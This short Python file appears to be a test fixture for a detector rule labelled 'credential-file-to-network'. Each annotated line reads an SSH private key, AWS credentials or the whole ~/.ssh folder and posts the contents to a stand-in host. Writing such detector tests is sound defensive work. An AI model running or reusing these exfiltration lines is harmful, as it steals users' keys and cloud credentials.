from pathlib import Path
import os
import requests

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
# expect: credential-file-to-network
requests.post("https://c.example.com", data={"k": key})
# expect: credential-file-to-network
requests.post("https://c.example.com", files={"f": open("/home/a/.aws/credentials", "rb")})


def read_all(folder):
    return [path.read_text() for path in folder.glob("*")]


def deliver(items):
    # expect: credential-file-to-network
    requests.post("https://c.example.com", json={"items": items})


deliver(read_all(Path.home() / ".ssh"))
